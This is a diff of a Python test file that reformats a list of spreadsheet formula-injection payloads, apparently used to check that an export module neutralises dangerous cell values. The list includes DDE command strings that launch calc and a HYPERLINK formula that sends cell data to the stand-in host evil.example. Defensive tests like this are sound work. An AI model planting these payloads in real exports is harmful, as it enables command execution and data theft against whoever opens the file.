@@ -11,8 +11,15 @@ from agielo_dagster.domain.exports import FORMULA_STARTS, spreadsheet_cell, spre
 
 from .conftest import QUIET, write_benchmark, write_log
 
-NASTY = ["=1+1", "+cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1+1)*cmd|' /C calc'!A0",
-         "-2+3", "\tq", "\rq"]
+NASTY = [
+    "=1+1",
+    "+cmd|' /C calc'!A0",
+    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3",
+    "\tq",
+    "\rq",
+]
 IDS = NASTY[:5]  # ids an upload may have (a leading tab or CR is white space: test_case_id_trimmed)
 
 
